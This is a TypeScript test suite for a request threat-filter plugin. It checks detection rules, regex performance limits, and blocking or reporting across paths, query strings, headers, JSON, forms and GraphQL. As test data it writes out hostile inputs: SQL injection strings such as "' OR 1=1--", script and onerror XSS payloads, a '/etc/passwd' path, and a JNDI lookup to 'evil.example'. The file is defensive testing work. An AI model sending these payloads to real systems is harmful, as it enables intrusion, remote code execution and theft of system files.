// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written as they come.
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { test } from 'node:test'
import { rules } from '../../src/plugins/threat-filter/rules.ts'
import { Texts, type Verdict } from '../../src/plugins/threat-filter/scan.ts'
import { threatFilter } from '../../src/plugins/threat-filter/threat-filter.ts'
import { type ExchangeOptions, exchange, host, make, type TestExchange } from './harness.ts'
import { attacks, harmless } from './threat-corpus.ts'

const careful = rules.filter(({ paranoia }) => paranoia === 1)

function found(...all: string[]): Verdict {
  const texts = new Texts()
  for (const text of all) texts.look(text)
  return texts.judge(careful)
}

for (const [text, rule] of attacks) {
  test(`finds ${JSON.stringify(text)}`, () => {
    const { score, ids } = found(text)
    assert.ok(ids.includes(rule), `${ids}`)
    assert.ok(score >= 5, `${score}`)
  })
}

for (const text of harmless) {
  test(`lets ${JSON.stringify(text)} pass`, () => {
    const { score, ids } = found(text)
    assert.ok(score < 5, `${score}: ${ids}`)
  })
}

test('every rule that scores 5 finds one of the attacks', () => {
  const met = new Set(attacks.flatMap(([text]) => found(text).ids))
  assert.deepEqual(
    careful.filter(({ id, score }) => score === 5 && !met.has(id)),
    [],
  )
})

// A backtracking matcher takes bounded time at each place of a text when no repeat is unbounded.
for (const { id, pattern } of rules) {
  test(`the rule ${id} repeats nothing without a bound`, () => {
    const source = pattern.source.replace(/\\./g, 'x').replace(/\[[^\]]*\]/g, 'x')
    assert.doesNotMatch(source, /[*+]|\{\d+,\}/)
    assert.ok([...source.matchAll(/\{(?:\d+,)?(\d+)\}/g)].every(([, most]) => Number(most) <= 200))
    assert.equal(pattern.flags, 'm')
    // And none leaves its text.
    for (const [negative] of pattern.source.matchAll(/\[\^(?:\\.|[^\]\\])*\]/g)) assert.match(negative, /\\n/)
    assert.doesNotMatch(pattern.source, /\\s/)
  })
}

const nasty: readonly (readonly [string, string])[] = [
  ['quotes', "'"],
  ['quotes and brackets', "')"],
  ['unions', 'union select '],
  ['selects', '(select a '],
  ['conditions', "' or "],
  ['numbers', 'or 1111111111='],
  ['tags', '<a on'],
  ['one tag that never ends', '<aonxxxxxxxxxxxxxxxxxxxx '],
  ['steps up', '../'],
  ['dots', '.'],
  ['comments that open', '/*'],
  ['comments that open and close', '/**/'],
  ['percent signs', '%'],
  ['encoded percent signs', '%25'],
  ['blanks', ' '],
  ['full-width letters', '\uff41'],
  ['javascript', 'j a v a s c r i p t '],
  ['look-ups', '${'],
]
test('many short texts cost no more than a long one', () => {
  const texts = Array.from({ length: 10_000 }, () => "'<(/;")
  const start = process.cpuUsage()
  assert.equal(found(...texts).score, 0)
  const { user, system } = process.cpuUsage(start)
  assert.ok(user + system < 1_000_000)
})

// Texts of one request are judged together.
for (const [name, texts, ids] of [
  ['an attack beside others', ['a b', '<script>', 'c d'], ['script-tag']],
  ['an attack between the ends of a comment', ['/*', '<script>', '*/'], ['script-tag']],
  [
    'an attack behind a comment that ends',
    ['/* a */', 'x /* y', "' or/**/1=1"],
    ['sql-always-true', 'sql-condition'],
  ],
  [
    'a file of the system beside others',
    ['a b', '/etc/passwd', 'c d'],
    ['system-file', 'system-file-within'],
  ],
  ['a cut beside others', ['a b', "admin'--", 'c d'], ['sql-cut']],
  ['an attack behind a quote in another text', ["it's", "' or x='y"], ['sql-condition']],
  ['two texts that make an attack together', ["'", 'or x=1'], []],
  ['two texts that make a tag together', ['<img', 'onerror=x'], []],
  ['two texts that make a union together', ['union', 'select 1'], []],
  ['a border in a text', ['<img x\ue000 onerror=alert(1)>'], ['script-handler', 'script-reach']],
] as const) {
  test(`together: ${name}`, () => {
    assert.deepEqual(found(...texts).ids, ids)
  })
}

test('64 KiB of whatever cost no more than their length allows', () => {
  const worst = nasty.map(([name, piece]) => {
    const text = piece.repeat(Math.ceil(65_536 / piece.length)).slice(0, 65_536)
    found(text)
    const start = process.cpuUsage()
    for (let i = 0; i < 3; i++) found(text)
    const { user, system } = process.cpuUsage(start)
    return [name, (user + system) / 3_000] as const
  })
  // Some milliseconds on a machine of its own (docs/edge.md); a backtracking one takes minutes.
  for (const [name, ms] of worst) assert.ok(ms < 1_000, `${name}: ${ms} ms`)
})

test('docs/edge.md says what each rule scores', () => {
  const docs = readFileSync('docs/edge.md', 'utf8')
  const told = [...docs.matchAll(/^\| `([a-z-]+)` \| (\d) \| ([12]) \|/gm)].map(([, ...cells]) =>
    cells.join(' '),
  )
  assert.deepEqual(
    told,
    rules.map(({ id, score, paranoia }) => `${id} ${score} ${paranoia}`),
  )
})

async function ask(
  options: object,
  request: NonNullable<ExchangeOptions['request']>,
  { body = '', protocol = 'rest' as 'rest' | 'graphql' | 'grpc' } = {},
): Promise<TestExchange> {
  const x = exchange({ plugins: [make(threatFilter, options, host())], request, route: { protocol } })
  x.sentBody = Buffer.from(body)
  return x.run()
}

const attack = "' OR 1=1--"
const encoded = encodeURIComponent(attack)
const json = { 'content-type': 'application/json', 'content-length': '99' }
const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '99' }
const block = { mode: 'block', body: true }

const places: readonly [string, object, Parameters<typeof ask>[1], Parameters<typeof ask>[2], boolean][] = [
  ['the path', block, { path: `/v1/users/${encoded}` }, {}, true],
  ['a value of the query', block, { query: `a=1&name=${encoded}` }, {}, true],
  ['a name of the query', block, { query: `${encoded}=1` }, {}, true],
  ['a value with +', block, { query: 'name=1+or+1%3D1' }, {}, true],
  ['a value that is encoded twice', block, { query: `name=${encodeURIComponent(encoded)}` }, {}, true],
  ['a value that is no UTF-8', block, { query: `name=%ff${encoded}` }, {}, true],
  [
    'a header that is looked at',
    block,
    { headers: { 'user-agent': '${jndi:ldap://evil.example}' } },
    {},
    true,
  ],
  ['a header that is not', block, { headers: { 'x-note': attack } }, {}, false],
  ['a header that is named', { ...block, headers: ['X-Note'] }, { headers: { 'x-note': attack } }, {}, true],
  [
    'a text in JSON',
    block,
    { method: 'POST', headers: json },
    { body: JSON.stringify({ a: [{ b: attack }] }) },
    true,
  ],
  [
    'a name in JSON',
    block,
    { method: 'POST', headers: json },
    { body: JSON.stringify({ [attack]: 1 }) },
    true,
  ],
  [
    'an escaped text in JSON',
    block,
    { method: 'POST', headers: json },
    { body: '{"a":"\\u003cscript\\u003e"}' },
    true,
  ],
  ['JSON that is none', block, { method: 'POST', headers: json }, { body: `{"a": ${attack}` }, true],
  [
    'harmless JSON',
    block,
    { method: 'POST', headers: json },
    { body: '{"name":"O\'Brien","html":"<b>"}' },
    false,
  ],
  ['a form', block, { method: 'POST', headers: form }, { body: `name=${encoded}` }, true],
  [
    'plain text',
    block,
    { method: 'POST', headers: { 'content-type': 'text/plain' } },
    { body: attack },
    true,
  ],
  [
    'a body, where bodies are not looked at',
    { mode: 'block' },
    { method: 'POST', headers: json },
    { body: JSON.stringify(attack) },
    false,
  ],
  [
    'variables of GraphQL',
    block,
    { method: 'POST', headers: json },
    { protocol: 'graphql', body: JSON.stringify({ query: '{a}', variables: { a: attack } }) },
    true,
  ],
  [
    'variables of a batch',
    block,
    { method: 'POST', headers: json },
    { protocol: 'graphql', body: JSON.stringify([{ query: '{a}' }, { variables: { a: attack } }]) },
    true,
  ],
  [
    'variables in a query',
    block,
    { query: `variables=${encodeURIComponent(JSON.stringify({ a: attack }))}` },
    { protocol: 'graphql' },
    true,
  ],
  [
    'a document of GraphQL',
    block,
    { method: 'POST', headers: json },
    { protocol: 'graphql', body: JSON.stringify({ query: '{ a(or: "1=1") { on } }' }) },
    false,
  ],
]
for (const [name, options, request, more, refused] of places) {
  test(`${refused ? 'refuses an attack in' : 'lets pass'} ${name}`, async () => {
    const x = await ask(options, request, more)
    assert.equal(x.error?.reason, refused ? 'THREAT_REFUSED' : undefined)
  })
}

test('reports by default, in the words of rules and not of the request', async () => {
  const x = await ask({}, { query: `name=${encoded}` })
  assert.equal(x.error, undefined)
  assert.deepEqual(x.attributes, { 'threat.score': 10, 'threat.rules': 'sql-always-true,sql-condition' })
})

test('adds up over the parts of a request, each rule once', async () => {
  const query = 'a=../x&b=../y&c=eval(x)'
  const x = await ask({ mode: 'block', threshold: 6 }, { query })
  assert.deepEqual(x.attributes, { 'threat.score': 5, 'threat.rules': 'path-up,script-reach' })
  assert.equal(x.error, undefined)
  assert.equal((await ask({ mode: 'block' }, { query })).error?.reason, 'THREAT_REFUSED')
})

test('finds more with paranoia', async () => {
  const query = `name=${encodeURIComponent("x' having 2>1")}`
  assert.equal((await ask({ mode: 'block', threshold: 4 }, { query })).error, undefined)
  assert.equal(
    (await ask({ mode: 'block', threshold: 4, paranoia: 2 }, { query })).error?.reason,
    'THREAT_REFUSED',
  )
})

test('a body that is too large is refused with block, and passes unseen with report', async () => {
  const request = { method: 'POST', headers: { ...json, 'content-length': '2000' } }
  const body = JSON.stringify(attack.repeat(200))
  assert.equal((await ask({ ...block, bodyBytes: '1kb' }, request, { body })).error?.reason, 'BODY_TOO_LARGE')
  const x = await ask({ body: true, bodyBytes: '1kb' }, request, { body })
  assert.equal(x.error, undefined)
  assert.deepEqual(x.attributes, { 'threat.unseen': 'body' })
})

for (const [name, headers] of [
  ['without a type', {}],
  ['of another type', { 'content-type': 'image/png' }],
  ['with a coding', { ...json, 'content-encoding': 'gzip' }],
] as const) {
  test(`says that a body ${name} was not looked at`, async () => {
    const x = await ask(block, { method: 'POST', headers }, { body: JSON.stringify(attack) })
    assert.equal(x.error, undefined)
    assert.deepEqual(x.attributes, { 'threat.unseen': 'body' })
  })
}
